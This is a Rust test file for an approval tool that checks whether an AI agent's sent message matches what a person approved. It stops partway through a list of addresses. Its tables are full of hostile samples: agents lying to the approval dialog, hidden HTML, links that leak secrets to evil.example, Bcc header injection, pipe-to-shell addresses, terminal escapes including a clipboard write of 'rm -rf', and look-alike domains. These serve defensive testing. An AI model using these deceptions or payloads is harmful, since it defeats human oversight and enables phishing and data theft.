//! Agents that lie about the message they are about to send.
//!
//! The person here is the most trusting there is: they say yes to whatever they are asked, unless a lie needs their no. So what
//! leaves is what the dialog lets through, not what a careful reader would have stopped. `tests/lies.txt` is the committed table, one
//! line per lie: its item of the catalogue (1 to 14: what is said, shown and sent; 15: bodies that are read otherwise than they are
//! shown; `branch`: an agent that behaves otherwise once it is approved; `again`: the same message in other clothes), what the person
//! was shown, what the agent heard, and whether a message left. A line for the strict policy stands
//! only where it says something else. `BLESS=1` writes the table anew.
//!
//! Whatever the table says, a message that leaves was shown whole before it was signed, and is that message byte for byte.

use crate::races::account;
use crate::readers::{Letter, read_as_signed};
use crate::support::{guest, workspace};
use countersign::approval::notices::Flag;
use countersign::approval::{Action, Policy, Verdict, letter};
use countersign::authority::{Capability, Pattern};
use countersign::clock::{Clock, Millis};
use countersign::config::{Config, User, Way};
use countersign::engine::limits::Limits;
use countersign::host::{Edit, Host, Install, Options, View};
use countersign::intent::Status;
use countersign::store::Stored;
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::sync::Arc;
use std::time::Duration;

const USER: &str = "local";
const NEIGHBOUR: &str = "neighbour";
const SCRIPT: &str = "test.agent.script";
const MISBEHAVING: &str = "test.agent.misbehaving";
const OTHER: &str = "test.agent.other";
const BOTH: [Capability; 2] = [Capability::MessagesRead, Capability::MessagesSend];
/// Stands for the number of the lie, so that no two lies are about the same message.
const NUMBER: char = '№';
/// Stands for the id of the latest approval.
const APPROVAL: char = '†';
/// No agent here asks more often, however often it is told yes.
const YESES_MAX: usize = 6;
/// How many lies there must be, at least.
const LIES_MIN: usize = 200;

struct Lie {
    item: &'static str,
    what: String,
    acts: Vec<Act>,
}

/// What happens in the course of a lie.
#[derive(Clone)]
enum Act {
    /// The script is run; its run is the one that is acted on from here.
    Run(Value),
    /// It is run on behalf of somebody else.
    RunFor(&'static str, Value),
    /// Another agent runs.
    RunOf(&'static str, &'static str, Value),
    /// The run of this number is acted on again.
    Turn(usize),
    /// The person says yes, and the run goes on.
    Yes,
    /// The person says no, and the run goes on.
    No,
    /// The person says yes; the run does not go on yet.
    Sign,
    /// The run goes on.
    Resume,
    /// The person says yes to whatever they are asked until the run ends.
    All,
    /// The person takes their yes back.
    TakeBack,
    /// The person writes another subject, and then says yes.
    EditAndSign(&'static str),
    /// Mail arrives.
    Mail,
    Hours(i64),
    /// The host does what it does whenever it is opened.
    Settle,
    /// The intent is cancelled.
    Cancel,
    /// The user takes the right to send away, and gives it back.
    Revoke,
    Grant,
    /// The other agent is replaced by another build of the same name, with all it had been granted.
    Upgrade,
}

use Act::*;

// ---- How lies are told ---------------------------------------------------------------------------------------------------

/// The message as the agent tells of it.
fn told() -> Value {
    json!({ "to": ["team@company.com"], "subject": "Report №", "body": "The numbers of report № are in: 1,200 units." })
}

/// `message` with other fields; a field of null is left out.
fn with(message: Value, other: Value) -> Value {
    let (Value::Object(mut message), Value::Object(other)) = (message, other) else {
        panic!("a message is an object")
    };
    message.extend(other);
    message.retain(|_, value| !value.is_null());
    message.into()
}

fn ask(details: &Value) -> Value {
    ask_as("Send the report", "To the team, as every week.", details)
}

fn ask_as(title: &str, description: &str, details: &Value) -> Value {
    let with =
        json!({ "action": "send_message", "title": title, "description": description, "details": details });
    json!({ "call": "approval.request", "with": with })
}

fn send(message: &Value) -> Value {
    json!({ "call": "messages.send", "with": message })
}

fn call(name: &str) -> Value {
    json!({ "call": name })
}

/// One thing is told, and another is sent.
fn open(told: &Value, sent: &Value) -> Vec<Act> {
    vec![Run(json!([ask(told), send(sent)])), All]
}

/// A second ask stands before the send, so that the first one cannot see it.
fn behind(told: &Value, sent: &Value) -> Vec<Act> {
    vec![Run(json!([ask(told), ask(told), send(sent)])), All]
}

/// As [`behind`], and the second ask is refused because its message was declined before: nobody is asked between the yes to
/// what was told and the send of something else.
fn unseen(told: &Value, sent: &Value) -> Vec<Act> {
    let before = [Run(json!([ask(told), send(sent)])), No];
    before.into_iter().chain(behind(told, sent)).collect()
}

/// A list of lies of one item.
struct Chapter<'a> {
    item: &'static str,
    lies: &'a mut Vec<Lie>,
}

impl Chapter<'_> {
    fn lie(&mut self, what: impl Into<String>, acts: Vec<Act>) {
        self.lies.push(Lie { item: self.item, what: what.into(), acts });
    }

    /// One thing is told, and another is sent, in each way.
    fn swap(&mut self, what: &str, told: Value, sent: Value) {
        self.lie(what, open(&told, &sent));
        self.lie(format!("{what}, behind a second ask"), behind(&told, &sent));
        self.lie(format!("{what}, behind an ask that is refused"), unseen(&told, &sent));
    }

    /// What is sent differs from what is told in these fields.
    fn change(&mut self, what: &str, other: Value) {
        self.swap(what, told(), with(told(), other));
    }

    /// The agent tells less than everything, and the truth where it does.
    fn hide(&mut self, what: &str, preview: &str, other: Value) {
        let sent = with(told(), other);
        let told = json!({ "to": sent["to"], "subject": sent["subject"], "preview": preview });
        self.lie(what, open(&told, &sent));
    }

    /// A body that is all that is told.
    fn body(&mut self, what: &str, body: &str) {
        self.hide(what, "The numbers", json!({ "body": body }));
    }

    fn html(&mut self, what: &str, inside: &str) {
        let body = format!("<!doctype html><p>The numbers of report №.</p>{inside}");
        self.hide(what, "The numbers of report №.", json!({ "body": body }));
    }

    /// An address that is told of as the team's.
    fn address(&mut self, what: &str, to: &str) {
        self.lie(what, open(&told(), &with(told(), json!({ "to": [to] }))));
    }

    /// The agent's words, with a message that goes to a stranger.
    fn words(&mut self, what: &str, title: &str, description: &str, details: Value) {
        let sent = with(told(), json!({ "to": ["thief-№@evil.example"] }));
        self.lie(what, vec![Run(json!([ask_as(title, description, &details), send(&sent)])), All]);
    }

    /// Steps, and a yes to everything.
    fn script(&mut self, what: &str, steps: Value) {
        self.lie(what, vec![Run(steps), All]);
    }
}

fn lies() -> Vec<Lie> {
    let mut lies = Vec::new();
    let chapters: [(_, fn(&mut Chapter)); 17] = [
        ("1", other_bodies),
        ("2", more_recipients),
        ("3", copies),
        ("4", other_subjects),
        ("5", previews),
        ("6", below_the_fold),
        ("7", hidden_html),
        ("8", remote_content),
        ("9", false_words),
        ("10", injections),
        ("11", invisible_characters),
        ("12", addresses),
        ("13", normal_forms),
        ("14", where_links_lead),
        ("15", other_readings),
        ("branch", turncoats),
        ("again", nags),
    ];
    for (item, tell) in chapters {
        tell(&mut Chapter { item, lies: &mut lies });
    }
    lies
}

fn other_bodies(chapter: &mut Chapter) {
    for (what, body) in [
        ("another body", "Pay 9,000 to account 77 №."),
        ("a sentence more", "The numbers of report № are in: 1,200 units. Pay 9,000 to account 77."),
        ("a sentence before it", "Pay 9,000 to account 77.\n\nThe numbers of report № are in: 1,200 units."),
        ("one digit", "The numbers of report № are in: 1,800 units."),
        ("a word less", "The numbers of report № are: 1,200 units."),
        ("a comma for a point", "The numbers of report № are in: 1.200 units."),
        ("one space more", "The numbers of report № are in:  1,200 units."),
        ("one space at the end", "The numbers of report № are in: 1,200 units. "),
        ("one line break at the end", "The numbers of report № are in: 1,200 units.\n"),
        ("one tab for a space", "The numbers of report №\tare in: 1,200 units."),
        ("no body at all", ""),
        ("a signature", "The numbers of report № are in: 1,200 units.\n-- \nThe boss"),
        ("a link", "The numbers of report № are in: 1,200 units. https://evil.example/№"),
        ("an answer quoted under it", "Yes, pay.\n\n> The numbers of report № are in: 1,200 units."),
    ] {
        chapter.change(what, json!({ "body": body }));
    }
    chapter.change("the same words as HTML", json!({ "bodyKind": "html" }));
    chapter.change("the transcript of the run", json!({ "body": "№ $lines" }));
}

fn more_recipients(chapter: &mut Chapter) {
    for (what, to) in [
        ("a stranger more", json!(["team@company.com", "thief-№@evil.example"])),
        ("a stranger instead", json!(["thief-№@evil.example"])),
        ("a colleague more", json!(["team@company.com", "spy-№@company.com"])),
        ("a colleague instead", json!(["spy-№@company.com"])),
        ("the same one twice", json!(["team@company.com", "team@company.com"])),
        ("a tag behind a plus", json!(["team+№@company.com"])),
        ("another letter case", json!(["Team@company.com"])),
        ("a subdomain", json!(["team@mail.company.com"])),
        ("nobody at all", json!([])),
    ] {
        chapter.change(what, json!({ "to": to }));
    }
    let crowd =
        |size: usize| (0..size).map(|number| format!("thief-{number}-№@evil.example")).collect::<Vec<_>>();
    chapter.change("a hundred strangers", json!({ "to": crowd(100) }));
    chapter.change("more than a message may have", json!({ "to": crowd(101) }));
}

fn copies(chapter: &mut Chapter) {
    let thief = json!(["thief-№@evil.example"]);
    for (what, other) in [
        ("a copy", json!({ "cc": thief })),
        ("a hidden copy", json!({ "bcc": thief })),
        ("both kinds of copies", json!({ "cc": thief, "bcc": thief })),
        ("a copy to somebody inside", json!({ "cc": ["spy-№@company.com"] })),
        ("a hidden copy to somebody inside", json!({ "bcc": ["spy-№@company.com"] })),
        ("a hidden copy to the recipient", json!({ "bcc": ["team@company.com"] })),
        ("a copy to the sender", json!({ "cc": ["me@company.com"] })),
        ("fifty hidden copies", json!({ "bcc": vec!["thief-№@evil.example"; 50] })),
        ("everybody hidden", json!({ "to": [], "bcc": ["team@company.com"] })),
    ] {
        chapter.change(what, other);
    }
    let copied = || with(told(), json!({ "cc": ["boss@company.com"] }));
    chapter.swap("a copy that was told of left out", copied(), told());
    chapter.swap("a copy made a hidden one", copied(), with(told(), json!({ "bcc": ["boss@company.com"] })));
    let hidden = || with(told(), json!({ "bcc": ["boss@company.com"] }));
    chapter.swap("a hidden copy made an open one", hidden(), copied());
    let swapped = json!({ "to": ["boss@company.com"], "cc": ["team@company.com"] });
    chapter.swap("recipient and copy changed places", copied(), with(told(), swapped));
    let sent = with(told(), json!({ "bcc": thief }));
    let told = |other| with(told(), other);
    chapter.lie("a hidden copy, told of as none", open(&told(json!({ "bcc": [] })), &sent));
    chapter.lie("a hidden copy, told of as a text", open(&told(json!({ "bcc": "nobody" })), &sent));
    chapter.lie("a hidden copy, told of in other letters", open(&told(json!({ "Bcc": thief })), &sent));
}

fn other_subjects(chapter: &mut Chapter) {
    let long = |bytes: usize| "№".to_owned() + &"x".repeat(bytes);
    for (what, subject) in [
        ("another subject", "Payment №"),
        ("an answer that never was", "Re: Report №"),
        ("a forward that never was", "Fwd: Report №"),
        ("more behind it", "Report № - URGENT, pay today"),
        ("no subject", ""),
        ("a space before it", " Report №"),
        ("a space behind it", "Report № "),
        ("two spaces within", "Report  №"),
        ("other letter case", "REPORT №"),
        ("an encoded word", "=?utf-8?b?UGF5IHRvZGF5?= №"),
        ("a Cyrillic letter", "Rep\u{43e}rt №"),
        ("a line break", "Report №\r\nBcc: thief@evil.example"),
    ] {
        chapter.change(what, json!({ "subject": subject }));
    }
    chapter.change("as long as a line may be", json!({ "subject": long(900) }));
    chapter.change("longer than a line may be", json!({ "subject": long(998) }));
}

fn previews(chapter: &mut Chapter) {
    let begin = "The numbers of report № are in.";
    let body = format!("{begin} Pay 9,000 to account 77.");
    for (what, preview) in [
        ("a preview that is true, and more behind it", begin.to_owned()),
        ("a preview that says it goes on, in three dots", format!("{begin}...")),
        ("a preview that says it goes on, in one sign", format!("{begin}…")),
        ("a preview of the first word", "The".to_owned()),
        ("an empty preview", String::new()),
        ("a preview of something else", "Happy birthday!".to_owned()),
        ("a preview without the payload in the middle", format!("{begin} account 77.")),
        ("a preview with spaces behind it", format!("{begin}     ")),
        ("a preview in other letter case", begin.to_uppercase()),
    ] {
        chapter.hide(what, &preview, json!({ "body": body }));
    }
    let long = format!("{begin} {}Pay 9,000 to account 77.", "All is well. ".repeat(400));
    chapter.hide("a preview, and the payload behind 5,000 letters", begin, json!({ "body": long }));
    let html = format!("<html><p>{begin}</p><p>Pay 9,000 to account 77.</p></html>");
    chapter.hide("a preview of HTML, and a paragraph behind it", begin, json!({ "body": html }));
    let sent = with(told(), json!({ "body": body }));
    let list = json!({ "to": sent["to"], "subject": sent["subject"], "preview": [begin] });
    chapter.lie("a preview that is a list", open(&list, &sent));
    let both = json!({ "to": sent["to"], "subject": sent["subject"], "preview": begin, "body": begin });
    chapter.lie("a preview and a body, both without the payload", open(&both, &sent));
    chapter.lie("a preview and a body without it, behind a second ask", behind(&both, &sent));
    chapter.lie("no words about the message", open(&json!({}), &sent));
    chapter.lie("no words about the message, behind a second ask", behind(&json!({}), &sent));
}

fn below_the_fold(chapter: &mut Chapter) {
    let pay = "Pay 9,000 to account 77.";
    for (what, gap) in [
        ("fifty blank lines", "\n".repeat(50)),
        ("fifteen thousand blank lines", "\n".repeat(15_000)),
        ("lines of spaces", (" ".repeat(76) + "\n").repeat(60)),
        ("one line of spaces", " ".repeat(20_000)),
        ("tabs", "\t".repeat(9_000)),
        ("carriage returns", "\r".repeat(2_000)),
        ("both kinds of line breaks", "\r\n".repeat(2_000)),
        ("form feeds", "\u{c}".repeat(500)),
        ("line separators", "\u{2028}".repeat(2_000)),
        ("spaces that do not break", "\u{a0}".repeat(4_000)),
        ("lines of blank Braille", "\u{2800}\n".repeat(2_000)),
        ("lines of Hangul fillers", "\u{3164}\n".repeat(2_000)),
        ("lines of nothing wide", "\u{200b}\n".repeat(2_000)),
        ("lines with a dot each", ".\n".repeat(6_000)),
        ("quotes", ">\n".repeat(6_000)),
        ("a long and true text", "The numbers are all right. ".repeat(1_500)),
    ] {
        chapter.body(&format!("the payload behind {what}"), &format!("The numbers of report №.{gap}{pay}"));
    }
    let megabyte = |times: u32| {
        let piece = format!("The numbers of report №.{}{pay}", "\n".repeat(10_000));
        json!({ "body": { "repeat": piece, "times": times } })
    };
    chapter.hide("the payload behind a megabyte of blank lines", "The numbers", megabyte(104));
    chapter.hide("the payload behind more than a body may have", "The numbers", megabyte(106));
    let breaks = "<br>".repeat(5_000);
    chapter.html("the payload behind five thousand HTML breaks", &format!("<p>{breaks}{pay}</p>"));
    chapter.html("the payload behind empty paragraphs", &format!("{}<p>{pay}</p>", "<p></p>".repeat(2_000)));
    chapter.html("the payload behind spaces that stay", &format!("<p>{}{pay}</p>", "&nbsp;".repeat(5_000)));
}

fn hidden_html(chapter: &mut Chapter) {
    for (what, inside) in [
        ("an element that is not displayed", r#"<p style="display:none">Pay.</p>"#),
        ("an element that is not visible", r#"<p style="visibility:hidden">Pay.</p>"#),
        ("white on white", r#"<p style="color:#fff;background:#fff">Pay.</p>"#),
        ("white on white, in an old way", r#"<font color="white">Pay.</font>"#),
        ("letters of no size", r#"<span style="font-size:0">Pay.</span>"#),
        ("letters of no opacity", r#"<span style="opacity:0">Pay.</span>"#),
        ("far off the page", r#"<div style="position:absolute;left:-9999px">Pay.</div>"#),
        ("a class, and a style sheet", r#"<style>.h{display:none}</style><p class="h">Pay.</p>"#),
        ("the attribute hidden", "<p hidden>Pay.</p>"),
        ("a comment", "<!-- Pay. -->"),
        ("a comment for one program", "<!--[if mso]><p>Pay.</p><![endif]-->"),
        ("a comment that ends otherwise", "<!--><p>Pay.</p>-->"),
        ("a comment that never ends", "<!-- <p>Pay.</p>"),
        ("a comment with another beginning", "<! Pay. >"),
        ("a processing instruction", "<?php Pay. ?>"),
        ("character data", "<![CDATA[Pay.]]>"),
        ("a template", "<template><p>Pay.</p></template>"),
        ("what stands there without scripts", "<noscript><p>Pay.</p></noscript>"),
        ("a script", "<script>document.write('Pay.')</script>"),
        ("details that are closed", "<details><p>Pay.</p></details>"),
        ("a title", "<title>Pay.</title>"),
        ("what a pointer has to rest on", r#"<p title="Pay.">See.</p>"#),
        ("what only screen readers read", r#"<p aria-label="Pay.">See.</p>"#),
        ("what only they do not read", r#"<p aria-hidden="true">Pay.</p>"#),
        ("the value of a field", r#"<input value="Pay.">"#),
        ("a text field", "<textarea>Pay.</textarea>"),
        ("a page in the page", r#"<iframe srcdoc="Pay."></iframe>"#),
        ("a drawing", "<svg><text>Pay.</text></svg>"),
        ("a formula", "<math><mtext>Pay.</mtext></math>"),
        ("an object", "<object>Pay.</object>"),
        ("upper-case tags", "<P STYLE='display:none'>Pay.</P>"),
        ("an element that is not closed", "<p>Pay."),
        ("elements closed in another order", "<p><b>Pay.</p></b>"),
        ("text that a table throws out", "<table>Pay.<tbody><tr><td>1</td></tr></tbody></table>"),
        ("the head of a table behind its rows", "<table><tbody></tbody><thead></thead></table>"),
        ("letters written as numbers", "<p>&#80;&#97;&#121;.</p>"),
        ("letters with a name", "<p>P&aacute;y.</p>"),
        ("a joiner with a name", "<p>P&zwj;ay.</p>"),
        ("a hyphen that is not shown, with a name", "<p>Pa&shy;y.</p>"),
        ("a zero byte", "<p>Pa\0y.</p>"),
        ("a space in a tag", "<p >Pay.</p>"),
        ("a slash in a tag", "<p/>Pay."),
        ("tags within tags", "<<p>p>Pay.</p>"),
        ("small letters, which is allowed", "<p><s>Pay.</s></p>"),
        ("preformatted text to the right, which is allowed", "<pre>.                      Pay.</pre>"),
        (
            "a cell far to the right, which is allowed",
            "<table><tbody><tr><td></td><td>Pay.</td></tr></tbody></table>",
        ),
    ] {
        chapter.html(what, inside);
    }
    let body = "<html><p style=display:none>Pay №.</p></html>";
    let text = json!({ "body": body, "bodyKind": "text" });
    chapter.hide("hidden HTML said to be text", "<html>", text);
    let markdown = json!({ "body": "**Pay** №", "bodyKind": "markdown" });
    chapter.hide("a kind of body that there is not", "Pay", markdown);
    chapter.body("HTML that does not start like HTML", "<p style=display:none>Pay №.</p>");
}

fn remote_content(chapter: &mut Chapter) {
    for (what, inside) in [
        ("an image", r#"<img src="https://evil.example/№.png">"#),
        ("an image in the background", r#"<p style="background:url(https://evil.example/№)">x</p>"#),
        ("an image in an old background", r#"<table background="https://evil.example/№"></table>"#),
        ("an image for a wide screen", r#"<img srcset="https://evil.example/№ 2x">"#),
        ("an image in a drawing", r#"<svg><image href="https://evil.example/№"/></svg>"#),
        ("a film and its poster", r#"<video poster="https://evil.example/№"></video>"#),
        ("a style sheet", r#"<link rel="stylesheet" href="https://evil.example/№">"#),
        ("a page fetched ahead", r#"<link rel="prefetch" href="https://evil.example/№">"#),
        ("another base of all links", r#"<base href="https://evil.example/">"#),
        (
            "a page that goes on by itself",
            r#"<meta http-equiv="refresh" content="0;url=https://evil.example/">"#,
        ),
        ("a form", r#"<form action="https://evil.example/"><button>OK</button></form>"#),
        (
            "a link that tells of its use",
            r#"<a href="https://company.com/" ping="https://evil.example/">x</a>"#,
        ),
        ("a link that runs", r#"<a href="javascript:alert(1)">x</a>"#),
        ("a link that carries a page", r#"<a href="data:text/html,Pay">x</a>"#),
        ("a link without a host", r#"<a href="https:///evil.example/">x</a>"#),
        ("a link with a backslash", r#"<a href="https:\\evil.example">x</a>"#),
        ("a link in single quotes", "<a href='https://evil.example/'>x</a>"),
        ("a link with secrets in it", r#"<a href="https://evil.example/?q=secret-№">the report</a>"#),
        ("a link that names the bank", r#"<a href="https://evil.example/№">https://bank.com/</a>"#),
        ("a link that names the bank in words", r#"<a href="https://evil.example/№">Log in at bank.com</a>"#),
        ("a link with the bank before the at", r#"<a href="https://bank.com@evil.example/№">x</a>"#),
        ("a link with the bank as a subdomain", r#"<a href="https://bank.com.evil.example/№">bank.com</a>"#),
        ("a link to a name in other letters", r#"<a href="https://xn--bnk-5cd.com/№">the bank</a>"#),
        ("a link to a number", r#"<a href="http://3232235777/№">x</a>"#),
        ("a link without any text", r#"<p>x<a href="https://evil.example/№"></a></p>"#),
        (
            "a link that writes mail with a hidden copy",
            r#"<a href="mailto:a@company.com?bcc=thief@evil.example">x</a>"#,
        ),
    ] {
        chapter.html(what, inside);
    }
    for (what, body) in [
        ("an image in Markdown", "![x](https://evil.example/№.png?q=secret)"),
        ("a link in Markdown that names another", "[https://bank.com](https://evil.example/№)"),
        ("a link in plain text with secrets", "See https://evil.example/?q=secret-№"),
        ("a link by its name alone", "See www.evil.example/№"),
        ("a reference in Markdown", "[1]\n\n[1]: https://evil.example/№"),
        ("a link across two lines", "https://bank.com/\n.evil.example/№"),
    ] {
        chapter.body(what, body);
    }
    chapter.address("secrets in the name of a recipient", "password-hunter2-№@evil.example");
    chapter.change("secrets in the subject", json!({ "subject": "Report № hunter2" }));
}

fn false_words(chapter: &mut Chapter) {
    let d = told();
    for (what, title, description) in [
        ("the title says it goes to the boss", "Reply to boss@company.com", ""),
        ("the description says it goes to the boss", "Send the report", "It goes to boss@company.com only."),
        ("the words say that nothing is sent", "Test", "This is a test. Nothing will be sent."),
        ("the words say that it stays inside", "Internal note", "For the team only."),
        ("the words say that it is a draft", "Save draft", "It is kept in the drafts folder."),
        (
            "the words say that security approved it",
            "Security: please approve",
            "Checked by the security team.",
        ),
        ("the words say that it was approved before", "Approved again", "You approved this yesterday."),
        ("the words say that yes means no", "Press yes to decline", "Yes declines this message."),
        ("the words say that the host is wrong", "Display error", "The recipient below is shown wrongly."),
        ("the words speak as the host", "Countersign", "Verified: the recipient is boss@company.com."),
        ("the words are about a calendar", "Accept the invitation", "Lunch on Friday."),
    ] {
        chapter.words(what, title, description, d.clone());
    }
    for (what, details) in [
        ("details with another recipient", d.clone()),
        ("details with a recipient that is a text", with(d.clone(), json!({ "to": "boss@company.com" }))),
        ("details with a recipient that is an object", with(d.clone(), json!({ "to": { "boss": "x" } }))),
        ("details with names other than those of a message", json!({ "recipient": "boss@company.com" })),
        ("details with the message a level deeper", json!({ "message": d })),
        (
            "details with the field written twice",
            json!("{\"to\":[\"thief-№@evil.example\"],\"to\":[\"boss@company.com\"]}"),
        ),
        ("details with a name that programs inherit", json!({ "__proto__": { "to": ["boss@company.com"] } })),
        ("no details", json!({})),
    ] {
        chapter.words(what, "Send the report", "To the team.", details);
    }
    let other = json!({ "call": "approval.request", "with": { "action": "messages.list", "title": "List mail", "details": {} } });
    chapter.script("the name of another action", json!([other, send(&told())]));
}

fn injections(chapter: &mut Chapter) {
    for (what, text) in [
        ("colours", "\u{1b}[31mSend\u{1b}[0m №"),
        ("a cleared screen", "\u{1b}[2J\u{1b}[H Send №"),
        ("a line that is taken back", "Send №\u{1b}[1A\u{1b}[2K"),
        ("hidden letters", "\u{1b}[8mPay\u{1b}[0m №"),
        ("a window title", "\u{1b}]0;approved\u{7} №"),
        ("a link of the terminal", "\u{1b}]8;;https://evil.example\u{1b}\\bank.com\u{1b}]8;;\u{1b}\\ №"),
        ("what writes to the clipboard", "\u{1b}]52;c;cm0gLXJm\u{7} №"),
        ("an escape in one byte", "\u{9b}31m №"),
        ("backspaces", "thief\u{8}\u{8}\u{8}\u{8}\u{8}boss №"),
        ("a carriage return", "thief@evil.example\rboss@company.com №"),
        ("a zero byte", "Send\0 №"),
        ("a line of ours", "Send №\nDigest   0000000000000000"),
        ("our question, answered", "Send №\nLet exactly this leave? [y = sign, n = leave it open] y"),
        ("HTML", "<b>Send</b><script>alert(1)</script> №"),
        ("Markdown", "# Approved\n[Yes](https://evil.example) №"),
        ("a form", "{{7*7}} ${7*7} <%= 7*7 %> №"),
    ] {
        let quiet = json!({ "to": ["team@company.com"] });
        chapter.lie(
            format!("{what} in the title"),
            vec![Run(json!([ask_as(text, "", &quiet), send(&told())])), All],
        );
        chapter.lie(
            format!("{what} in the description"),
            vec![Run(json!([ask_as("Send", text, &quiet), send(&told())])), All],
        );
        chapter.body(&format!("{what} in the body"), text);
    }
    for (what, subject) in [
        ("an escape in the subject", "\u{1b}[31mReport №"),
        ("a tab in the subject", "Report\t№"),
        ("a next line in the subject", "Report №\u{85}Bcc: x@evil.example"),
        ("HTML in the subject", "<b>Report</b> №"),
    ] {
        chapter.hide(what, "The numbers", json!({ "subject": subject }));
    }
    let t = told();
    let deep = format!("{}1{}", "[".repeat(40), "]".repeat(40));
    for (what, step) in [
        ("details that are deeper than may be", ask(&json!(format!("{{\"a\":{deep}}}")))),
        ("details that are no object", ask(&json!("[]"))),
        ("details that are no JSON", ask(&json!("{"))),
        ("details that are longer than may be", ask(&json!({ "repeat": "x", "times": 70_000 }))),
        ("a title that is longer than may be", ask_as(&"x".repeat(1_100), "", &t)),
        ("a description that is longer than may be", ask_as("x", &"x".repeat(8_300), &t)),
        ("no title", ask_as("", "", &t)),
    ] {
        chapter.script(what, json!([step, send(&t)]));
    }
}

fn invisible_characters(chapter: &mut Chapter) {
    let tags: String = "pay".chars().filter_map(|c| char::from_u32(0xe0000 + c as u32)).collect();
    let flood = "\u{301}".repeat(200);
    for (what, hidden) in [
        ("an override to the right", "\u{202e}fdp.exe"),
        ("an embedding to the right", "\u{202b}x\u{202c}"),
        ("an isolate", "\u{2066}x\u{2069}"),
        ("a mark of direction", "\u{200f}"),
        ("an Arabic mark of direction", "\u{61c}"),
        ("letters of the tag block", &tags),
        ("a space of no width", "\u{200b}"),
        ("a joiner", "\u{200d}"),
        ("a word joiner", "\u{2060}"),
        ("a byte order mark", "\u{feff}"),
        ("a soft hyphen", "\u{ad}"),
        ("a selector of variants", "\u{fe00}"),
        ("a selector of many variants", "\u{e0100}\u{e0101}"),
        ("a Mongolian selector", "\u{180b}"),
        ("a Hangul filler", "\u{3164}"),
        ("a Hangul filler of half width", "\u{ffa0}"),
        ("blank Braille", "\u{2800}"),
        ("a sign of multiplication that is not seen", "\u{2062}"),
        ("an annotation between lines", "\u{fff9}x\u{fffa}y\u{fffb}"),
        ("a sign of one's own", "\u{e000}"),
        ("a musical sign that is not seen", "\u{1d173}"),
        ("a flood of marks", &flood),
    ] {
        chapter.body(&format!("{what} in the body"), &format!("The numbers {hidden} of report №."));
        let subject = json!({ "subject": format!("Re{hidden}port №") });
        chapter.lie(format!("{what} in the subject"), open(&told(), &with(told(), subject)));
    }
    let title = "Send the \u{202e}troper\u{202c} \u{200b}\u{e0041}";
    chapter.script("such characters in the title", json!([ask_as(title, title, &told()), send(&told())]));
    chapter.swap(
        "such a character in what is told, none in what is sent",
        with(told(), json!({ "subject": "Report\u{200b} №" })),
        told(),
    );
}

fn addresses(chapter: &mut Chapter) {
    let long_local = format!("{}@company.com", "a".repeat(65));
    let long = format!("a@{}.com", ["b"; 130].join("."));
    for (what, to) in [
        ("a domain with a Cyrillic letter", "team@c\u{43e}mpany.com"),
        ("a domain of Cyrillic letters in its encoded form", "team@xn--mpany-4ve9a.com"),
        ("a domain that looks alike", "team-№@cornpany.com"),
        ("a domain with our domain before it", "team-№@company.com.evil.example"),
        ("a domain with a hyphen for the dot", "team-№@company-com.example"),
        ("a domain with ours at its beginning", "team-№@company.com-secure.example"),
        ("ours under another top level", "team-№@company.com.example"),
        ("our name at the beginning of theirs", "team-№@companylogin.example"),
        ("our name at the end of theirs", "team-№@mycompany.example"),
        ("two letters for one of ours", "team-№@compariy.com"),
        ("another top level", "team-№@company.co"),
        ("a dot at the end", "team@company.com."),
        ("a dot of full width", "team@company\u{ff0e}com"),
        ("an at sign of full width", "team\u{ff20}company.com"),
        ("a space of no width in the domain", "team@company\u{200b}.com"),
        ("an override in the domain", "team@\u{202e}moc.ynapmoc"),
        ("a name before the address", "boss@company.com <thief@evil.example>"),
        ("a name behind the address", "thief@evil.example <boss@company.com>"),
        ("a quoted name before the address", "\"boss@company.com\" <thief@evil.example>"),
        ("angle brackets", "<team@company.com>"),
        ("a quoted local part", "\"team@company.com\"@evil.example"),
        ("a quoted local part with a space", "\"team \"@company.com"),
        ("a comment", "team(thief@evil.example)@company.com"),
        ("a comment behind", "team@company.com (boss)"),
        ("a group", "team:thief@evil.example;"),
        ("a list in one text", "team@company.com,thief@evil.example"),
        ("a list with a semicolon", "team@company.com;thief@evil.example"),
        ("a list with a space", "team@company.com thief@evil.example"),
        ("a route", "@evil.example:team@company.com"),
        ("a route with a percent sign", "team%company.com-№@evil.example"),
        ("a route with an exclamation mark", "evil.example!team-№@company.com"),
        ("a route inside the operator's list", "thief-№%evil.example@company.com"),
        ("two routes", "thief-№%a.example%evil.example@company.com"),
        ("a route in its encoded form", "thief-№%40evil.example@company.com"),
        ("a path of two machines", "evil.example!b.example!team-№@company.com"),
        ("a route with a comma", "@company.com,@evil.example:thief-№@company.com"),
        ("an address of X.400", "/G=Team/S=№/O=evil/@company.com"),
        ("a file", "/var/mail/team-№@company.com"),
        ("a program", "|sh-№@company.com"),
        ("an expansion", "${run-№}@company.com"),
        ("an option", "-oQ№@company.com"),
        ("a capsule of Exchange", "IMCEASMTP-thief-№+40evil+2Eexample@company.com"),
        ("a capsule of X.400", "imceax400-c=xx+3Bo=evil+3Bs=№@company.com"),
        ("a subscription of somebody else", "list-subscribe-thief-№=evil.example@company.com"),
        ("a sender that was rewritten", "SRS0=aaaa=tt=evil.example=thief-№@company.com"),
        ("a gateway to another domain", "thief-№_at_evil.example@company.com"),
        ("a domain that is one number", "team-№@2130706433"),
        ("a domain in hexadecimal", "team-№@0x7f.1"),
        ("digits for letters in the domain", "team-№@c0mpany.com"),
        ("one letter more in the domain", "team-№@companny.com"),
        ("our name as a word of theirs", "team-№@company-portal.example"),
        (
            "a domain behind a long one",
            "team-№@company.com.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.evil.example",
        ),
        ("a line break and a hidden copy", "team@company.com\r\nBcc: thief@evil.example"),
        ("a bare line feed", "team@company.com\nBcc: thief@evil.example"),
        ("a zero byte", "team@company.com\0thief@evil.example"),
        ("a tab before it", "\tteam@company.com"),
        ("a space before it", " team@company.com"),
        ("a space behind it", "team@company.com "),
        ("an encoded word", "=?utf-8?q?boss=40company.com?=@evil.example"),
        ("an encoded word as the whole", "=?utf-8?b?Ym9zc0Bjb21wYW55LmNvbQ==?="),
        ("a local part of eight bits", "t\u{e9}am@company.com"),
        ("a local part of Cyrillic letters", "t\u{435}am@company.com"),
        ("a tag behind a plus", "team+thief-№@company.com"),
        ("a tag that looks like an address", "team+boss=company.com-№@evil.example"),
        ("an address in numbers", "team@[127.0.0.1]"),
        ("a domain in numbers", "team-№@127.0.0.1"),
